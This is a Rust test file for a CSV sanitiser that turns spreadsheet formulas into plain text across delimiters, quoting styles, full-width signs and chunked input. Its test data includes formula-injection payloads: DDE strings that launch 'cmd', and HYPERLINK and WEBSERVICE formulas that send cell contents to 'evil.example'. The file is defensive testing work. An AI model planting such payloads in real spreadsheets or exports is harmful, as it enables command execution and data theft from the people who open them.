//! Formulas and what only looks like them.

mod any_text;

use super::*;

fn whole(text: &[u8]) -> Vec<u8> {
    let mut sheet = Spreadsheet::default();
    let mut out = sheet.pass(text);
    out.extend(sheet.end());
    out
}

fn safe(text: &str) -> String {
    String::from_utf8(whole(text.as_bytes())).unwrap()
}

const CASES: &[(&str, &str)] = &[
    ("a,b\n=1+1,x\n", "a,b\n'=1+1,x\n"),
    ("a,b\nx,=cmd|' /C calc'!A0\n", "a,b\nx,'=cmd|' /C calc'!A0\n"),
    ("@SUM(A1),+A1,-A1\n", "'@SUM(A1),'+A1,'-A1\n"),
    // Bytes that a spreadsheet may leave out.
    ("a,b\n\tx,\"\tx\"\n", "a,b\n'\tx,\"'\tx\"\n"),
    ("a\n\"\r=1\"\n", "a\n\"'\r'=1\"\n"),
    ("a,b\n\0=1,\u{b}=1\n", "a,b\n'\0=1,'\u{b}=1\n"),
    ("a,b\n  =1,\"  =1\"\n", "a,b\n  '=1,\"  '=1\"\n"),
    ("\u{feff}=1,2\n", "\u{feff}'=1,2\n"),
    ("\u{feff}\"=1\",2\n", "\u{feff}\"'=1\",2\n"),
    // Quotes.
    (
        "a,b\n\"=HYPERLINK(\"\"http://h\"\",\"\"x\"\")\",\"=1\"\n",
        "a,b\n\"'=HYPERLINK(\"\"http://h\"\",\"\"x\"\")\",\"'=1\"\n",
    ),
    ("a,b\n \"x,=1\"\n", "a,b\n \"x,'=1\"\n"),
    ("a,b\n\"\"=1,\"\"\"=1\"\n", "a,b\n\"\"'=1,\"\"\"'=1\"\n"),
    // Delimiters: the file's own, and those of other countries.
    ("a;b\n1;=1\n", "a;b\n1;'=1\n"),
    ("a\tb\n1\t=1\n", "a\tb\n1\t'=1\n"),
    ("a\tb\tc\n1\t\t2\n", "a\tb\tc\n1\t\t2\n"),
    ("a|b\n1|=1\n", "a|b\n1|'=1\n"),
    ("a,b\nx;=1,y\n", "a,b\nx;'=1,y\n"),
    ("a,b\nx,\"y;=1;z\"\n", "a,b\nx,\"y;'=1;z\"\n"),
    ("a,b\nx,\"y\n=1;z\"\n", "a,b\nx,\"y\n'=1;z\"\n"),
    ("a|b|c|d,e\nx,=1\n", "a|b|c|d,e\nx,'=1\n"),
    ("a;b\n\"-1,=1\";2\n", "a;b\n\"'-1,'=1\";2\n"),
    ("a,b\nx;  =1,y;\u{b}=1\n", "a,b\nx;  '=1,y;\u{b}'=1\n"),
    // Wide signs.
    ("a,b\n＝1,＋x\n", "a,b\n'＝1,'＋x\n"),
    ("a,b\n－1,\"＠x\"\n", "a,b\n'－1,\"'＠x\"\n"),
    // Ends of the file and of lines.
    ("=1", "'=1"),
    ("-A1", "'-A1"),
    ("a,b\r\n=1,\r\n", "a,b\r\n'=1,\r\n"),
    ("a,b\r=1,2\r", "a,b\r'=1,2\r"),
    // No numbers.
    ("-1e5+cmd\n", "'-1e5+cmd\n"),
    (
        "-E5,-1+1,+1-800-555,--5,-1e,-1:9\n",
        "'-E5,'-1+1,'+1-800-555,'--5,'-1e,'-1:9\n",
    ),
    ("a\n\"-1\"\"+A1\"\n", "a\n\"'-1\"\"+A1\"\n"),
];

/// What begins like a number, and goes on behind a byte that ends no cell in one of the readings.
const LONGER_THAN_THEY_LOOK: &[(&str, &str)] = &[
    // A sign alone is no number if something follows.
    (
        "a,b\n\"+\ncmd|' /C calc'!A0\",x\n",
        "a,b\n\"'+\ncmd|' /C calc'!A0\",x\n",
    ),
    (
        "a,b\n\"+\r\ncmd|' /C calc'!A0\",x\n",
        "a,b\n\"'+\r\ncmd|' /C calc'!A0\",x\n",
    ),
    ("a,b\n+\tcmd|' /C calc'!A0,x\n", "a,b\n'+\tcmd|' /C calc'!A0,x\n"),
    ("a\tb\n-\tWEBSERVICE(A2)\n", "a\tb\n'-\tWEBSERVICE(A2)\n"),
    (
        "a,b\n\"-\nHYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\n",
        "a,b\n\"'-\nHYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\n",
    ),
    // What is put before another cell must not become a part of a formula.
    ("a\tb\nx|+\t-\";[x]y'!A1\n", "a\tb\nx|'+\t'-\";[x]y'!A1\n"),
    ("a,b\n\"+\n1\"", "a,b\n\"'+\n1\""),
    // Nor is a number.
    (
        "a,b\n\"-1\n*WEBSERVICE(\"\"http://evil.example/?\"\"&A1)\"\n",
        "a,b\n\"'-1\n*WEBSERVICE(\"\"http://evil.example/?\"\"&A1)\"\n",
    ),
    ("a,b\n\"-1,INDIRECT(A1)\",x\n", "a,b\n\"'-1,INDIRECT(A1)\",x\n"),
    ("a;b\n-1,INDIRECT(A1);x\n", "a;b\n'-1,INDIRECT(A1);x\n"),
    ("a,b\n-1|' /C calc'!A0\n", "a,b\n'-1|' /C calc'!A0\n"),
    ("a|b\n-1|' /C calc'!A0\n", "a|b\n'-1|' /C calc'!A0\n"),
    // Quotes that some find behind spaces, and bytes behind those that end a cell.
    ("a,b\n \"-1\n*A1\"\n", "a,b\n \"'-1\n*A1\"\n"),
    ("a,b\n\"-\"1,\"&A1\"\n", "a,b\n\"'-\"1,\"&A1\"\n"),
    // A line that is one cell where the comma is a decimal one, or the tab a blank.
    ("a,b\n-1,5*A1\n", "a,b\n'-1,5*A1\n"),
    ("a,b\n\"-1\",5&A1\n", "a,b\n\"'-1\",5&A1\n"),
    ("a,b\n-1,5-A1\n", "a,b\n'-1,5-A1\n"),
    ("a,b\n-1,5＊A1\n", "a,b\n'-1,5＊A1\n"),
    ("a\tb\tc\n-1\t-5\t*A1\n", "a\tb\tc\n'-1\t-5\t*A1\n"),
    ("a,b\nx;\"-1\n*A1\"\n", "a,b\nx;\"'-1\n*A1\"\n"),
];

#[test]
fn formulas_become_text() {
    for (text, wanted) in CASES {
        assert_eq!(safe(text), *wanted);
    }
}

#[test]
fn a_number_ends_where_its_cell_does() {
    for (text, wanted) in LONGER_THAN_THEY_LOOK {
        assert_eq!(safe(text), *wanted);
    }
}

#[test]
fn numbers_and_words_stay_as_they_are() {
    let plain = "id,name,n\n1,\"a, \"\"b\"\" = c\",-1.5\n2,x-y,+4.2e-10\n3,a@b.c,\"-1,234.50\"\n4,'=1,-12%\n\
                 5,Ünï ﬁ,+49 170 1234\n6,,-\n7,--,- 5 %\n8,\"-7\",-.5\n9,\"Thanks, @you =)\",-1E5\n10,-7\r\n11,\"x\ny\",-0";
    assert_eq!(safe(plain), plain);
    let continental = "id;n\r\n1;-1.234,50\r\n2;\"-1,5\"\r\n";
    assert_eq!(safe(continental), continental);
    // Ahead of other cells: for a spreadsheet with another delimiter they are one cell.
    for line in [
        "-0.1276,51.5072,London",
        "-5,2024-01-01T12:30,x",
        "\"-1,234.50\",+3,-12%,x",
        "-1,-2,-3",
        "+3,\"a\"",
        "-1e5",
        "-,n/a",
        "--,x",
        "-1.5;x;\"y*z\"",
        "-1\t-2\tx",
        "-1\t2\t*",
    ] {
        for text in [format!("{line}\n"), format!("{line}\r\n{line}\r\n"), line.to_owned()] {
            assert_eq!(safe(&text), text);
        }
    }
    let negative = format!("{}-1\n", "-0.512345678901,".repeat(100));
    assert_eq!(safe(&negative), negative);
    assert_eq!(safe(""), "");
    // Latin-1.
    assert_eq!(whole(b"na\xefve,\xef\n\xefx,-1\n"), b"na\xefve,\xef\n\xefx,-1\n");
}

#[test]
fn a_cell_without_an_end_is_not_held() {
    let mut sheet = Spreadsheet::default();
    let mut written = sheet.pass(b"a\n-");
    for _ in 0..100 {
        written.extend(sheet.pass(&[b'1'; 1000]));
        assert!(sheet.held.len() < AHEAD);
    }
    assert!(written.starts_with(b"a\n'-1"));
    let mut sheet = Spreadsheet::default();
    let written: usize = (0..100).map(|_| sheet.pass(&[b'x'; 1024]).len()).sum();
    assert_eq!(
        (written, sheet.held.len()),
        (100 << 10, 0),
        "a first line without an end"
    );
}

#[test]
fn the_delimiter_does_not_depend_on_the_pieces() {
    // More semicolons than commas, but only behind what is looked at.
    let text = [
        "a,".repeat(LONGEST_HEAD / 2),
        ";".repeat(LONGEST_HEAD),
        "\n x;\u{b}x,\u{b}x\n".to_owned(),
    ]
    .concat();
    let mut sheet = Spreadsheet::default();
    let mut in_pieces: Vec<u8> = text.as_bytes().chunks(7).flat_map(|piece| sheet.pass(piece)).collect();
    in_pieces.extend(sheet.end());
    assert!(in_pieces == whole(text.as_bytes()));
    assert!(in_pieces.ends_with(b"\n x;\x0bx,'\x0bx\n"));
}

#[test]
fn tables_are_text_with_a_name_that_says_so() {
    for name in ["a.csv", "/data/output/A.CSV", "x.y.tsv"] {
        assert!(is_table(name), "{name}");
    }
    for name in ["csv", "a.csv.gz", "a.xlsx", "a", "a.csv/b", ""] {
        assert!(!is_table(name), "{name}");
    }
    assert!(is_text(b"") && is_text("\u{feff}a,ü\n".as_bytes()) && is_text(b"na\xefve"));
    for other in [
        &b"\xff\xfe=\0"[..],
        b"\xfe\xff\0=",
        b"=\0",
        b"PK\x03\x04\x14\0",
        b"\x89PNG\r\n\x1a\n\0",
    ] {
        assert!(!is_text(other), "{other:?}");
    }
}
